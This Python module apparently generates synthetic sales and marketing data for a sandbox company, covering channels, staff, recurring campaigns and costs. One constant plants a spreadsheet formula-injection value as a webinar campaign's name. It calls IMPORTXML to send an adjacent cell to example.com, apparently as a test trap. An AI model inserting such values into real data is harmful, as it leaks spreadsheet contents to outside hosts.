"""
How the company sells: its own people, its channels and its campaigns.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import date, timedelta
from random import Random

from sandbox.company.draw import Calendar, add_months, month_end, stream
from sandbox.company.model import Campaign, Owner, Team, World
from sandbox.company.words import Names, slug

OWN_DOMAIN = "noria.example.com"


@dataclass(frozen=True)
class Channel:
    """
    A way that people find the company.

    Args:
        name: In the words of web analytics, for all that both know.
        share: Of the leads.
        sources: What sales writes into the lead source.
        qualified: Share of its leads that get qualified.
        quality: How readily its leads buy, 1 being the mean.
        cost_per_lead: [EUR]; 0 where nobody is paid for it.
    """

    name: str
    share: float
    sources: tuple[str, ...]
    qualified: float
    quality: float
    cost_per_lead: float = 0.0


CHANNELS = (
    Channel("Organic Search", 0.19, ("Web", "Blog"), 0.44, 1.1),
    Channel("Paid Search", 0.18, ("Google Ads",), 0.42, 1.0, 125),
    Channel("Paid Social", 0.13, ("LinkedIn Ads",), 0.32, 0.7, 110),
    Channel("Organic Social", 0.06, ("LinkedIn",), 0.33, 0.8),
    Channel("Email", 0.08, ("Newsletter",), 0.45, 1.1, 55),
    Channel("Referral", 0.06, ("Software Directory",), 0.48, 1.2, 70),
    Channel("Direct", 0.07, ("Direct Traffic",), 0.45, 1.1),
    Channel("Display", 0.04, ("Banner",), 0.26, 0.5, 95),
    Channel("Events", 0.17, ("Trade Show", "Webinar"), 0.52, 1.1, 165),
    Channel("Partner", 0.05, ("Partner Referral",), 0.62, 1.6, 90),
    Channel("Outbound", 0.1, ("Cold Call",), 0.55, 0.9, 120),
)
BY_NAME = {channel.name: channel for channel in CHANNELS}
# What the organisation writes into a lead source -> the channel that it means.
CHANNEL_WORDS: dict[str, str] = {word: channel.name for channel in CHANNELS for word in channel.sources}

# A name that a careless sheet would run as a formula and so tell the world what stands beside it.
FORMULA_NAME = '=IMPORTXML("https://example.com/?"&A1)'


def hire(world: World) -> None:
    """
    The company's own people; one seller has left, and still owns deals.
    """
    rng = stream(world.seed, "owners")
    names = Names(rng)
    heads: dict[Team, int] = {
        "Marketing": min(2 + world.size // 400, 12),
        "Sales": min(3 + world.size // 150, 60),
        "Service": min(2 + world.size // 250, 40),
    }
    for team, count in heads.items():
        for nth in range(count):
            first, last = names.person()
            email = names.address(first, last, OWN_DOMAIN)
            has_left = team == "Sales" and nth == 1
            world.owners.append(Owner(len(world.owners) + 1, first, last, email, team, not has_left))


@dataclass(frozen=True)
class _Plan:
    """
    A campaign that comes back.

    Args:
        name: Its name, before the time it runs in.
        every: Months from one to the next; 0 for one after the other, by calendar quarters or half-years.
        days: How long it runs.
        first: The month of the story it begins with.
    """

    name: str
    channel: str
    kind: str
    every: int
    days: int
    is_in_salesforce: bool
    first: int = 0


_MANY_ACCOUNTS = 1500
_PLANS = (
    _Plan("Google Ads Brand", "Paid Search", "Google Ads", 0, 0, False),
    _Plan("Google Ads Generic", "Paid Search", "Google Ads", 0, 0, True),
    _Plan("LinkedIn Ads Decision Makers", "Paid Social", "LinkedIn Ads", 0, 0, False),
    _Plan("LinkedIn Ads Retargeting", "Paid Social", "LinkedIn Ads", 6, 150, True, 1),
    _Plan("Newsletter", "Email", "Newsletter", 0, 0, False),
    _Plan("Trade Show Madrid", "Events", "Trade Show", 6, 3, True, 2),
    _Plan("Trade Show Berlin", "Events", "Trade Show", 12, 3, True, 5),
    _Plan("Webinar", "Events", "Webinar", 3, 1, True, 1),
    _Plan("Partner Programme", "Partner", "Partner Referral", 6, 180, True),
    _Plan("Cold Call Sprint", "Outbound", "Cold Call", 4, 45, True, 1),
)

# The same for the types of its campaigns.
CAMPAIGN_WORDS: dict[str, str] = {plan.kind: plan.channel for plan in _PLANS}


def plan_campaigns(world: World) -> None:
    """
    Campaigns of all the months; those still on air end on the last day known.
    """
    rng = stream(world.seed, "campaigns")
    calendar = world.calendar
    # A small company's quarter is too short to tell one campaign from another.
    term = 3 if world.size >= _MANY_ACCOUNTS else 6
    terms = [month for month in calendar.months if month == calendar.start or month.month % term == 1]
    for plan in _PLANS:
        parent: Campaign | None = None
        for month in calendar.months[plan.first :: plan.every] if plan.every else terms:
            starts, when = month, f"{month:%Y-%m}"
            if not plan.every:
                ends = month_end(add_months(month, term - 1 - (month.month - 1) % term))
                when = f"{'Q' if term == 3 else 'H'}{(month.month - 1) // term + 1} {month.year}"
            else:
                starts += timedelta(days=rng.randrange(1, 22) if plan.days < 60 else 0)
                ends = starts + timedelta(days=plan.days - 1)
            if starts > calendar.until:
                break
            parent = _add(world, rng, f"{plan.name} {when}", plan, starts, min(ends, calendar.until), parent)
    odd = next(c for c in reversed(world.campaigns) if c.kind == "Webinar")
    odd.name = FORMULA_NAME


def _add(
    world: World, rng: Random, name: str, plan: _Plan, starts: date, ends: date, parent: Campaign | None
) -> Campaign:
    campaign = Campaign(
        number=len(world.campaigns) + 1,
        name=name,
        utm=slug(name),
        channel=plan.channel,
        kind=plan.kind,
        is_in_salesforce=plan.is_in_salesforce,
        starts_on=starts,
        ends_on=ends,
        quality=rng.lognormvariate(-0.15, 0.55),
        parent=parent if parent and parent.parent is None and plan.kind == "Trade Show" else None,
    )
    world.campaigns.append(campaign)
    return campaign


class OnAir:
    """
    Which campaigns reach a person on a day.
    """

    def __init__(self, world: World) -> None:
        self._by_channel: dict[str, list[Campaign]] = {}
        for campaign in world.campaigns:
            self._by_channel.setdefault(campaign.channel, []).append(campaign)

    def on(self, channel: str, day: date, echo_days: int = 0) -> list[Campaign]:
        """
        Those of a channel that run on a day, or ended at most some days [days] before.
        """
        echo = timedelta(days=echo_days)
        return [c for c in self._by_channel.get(channel, ()) if c.starts_on <= day <= c.ends_on + echo]


def pay_campaigns(world: World) -> None:
    """
    What each campaign cost: its leads at a price that no two campaigns share.
    """
    rng = stream(world.seed, "campaign costs")
    for campaign in world.campaigns:
        price = BY_NAME[campaign.channel].cost_per_lead * min(max(rng.lognormvariate(0, 0.3), 0.6), 1.8)
        price = min(max(price, 31.0), 198.0)
        campaign.cost = float(round(max(campaign.leads, 1) * price))
        campaign.budget = float(round(campaign.cost * rng.uniform(0.85, 1.3), -2) or 100.0)


def channel_spend(calendar: Calendar, leads: dict[tuple[str, date], int], seed: int) -> list[tuple[str, date, float]]:
    """
    Monthly media cost of the paid channels that no campaign of a CRM accounts for: (channel, first of month, EUR).
    """
    rng = stream(seed, "channel spend")
    rows: list[tuple[str, date, float]] = []
    for name in ("Display", "Referral"):
        for month in calendar.months:
            price = BY_NAME[name].cost_per_lead * rng.uniform(0.75, 1.3)
            rows.append((name, month, round(max(leads.get((name, month), 0), 1) * price, 2)))
    return rows
